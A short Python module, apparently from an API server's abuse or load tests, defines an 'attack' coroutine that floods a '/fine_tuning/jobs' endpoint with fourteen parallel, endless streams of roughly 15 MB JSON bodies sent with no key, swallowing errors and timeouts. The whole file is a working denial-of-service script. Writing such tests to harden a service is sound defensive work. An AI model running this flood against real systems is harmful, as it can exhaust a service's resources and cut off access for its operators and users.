"""Large bodies from whoever has no key: 15 MB of JSON, fourteen at a time."""

from __future__ import annotations

import asyncio
from contextlib import suppress

import aiohttp

_AT_ONCE = 14
_BODY = b'{"a":[' + b"{}," * 5_000_000 + b"{}]}"


async def attack(base_url: str, key: str) -> None:
    """Send the bodies until cancelled. The key is left out: strangers have none."""
    del key
    async with aiohttp.ClientSession() as session:
        await asyncio.gather(*(_send(session, f"{base_url}/fine_tuning/jobs") for _ in range(_AT_ONCE)))


async def _send(session: aiohttp.ClientSession, url: str) -> None:
    headers = {"content-type": "application/json"}
    while True:
        with suppress(aiohttp.ClientError, TimeoutError):
            async with session.post(url, data=_BODY, headers=headers) as response:
                await response.read()
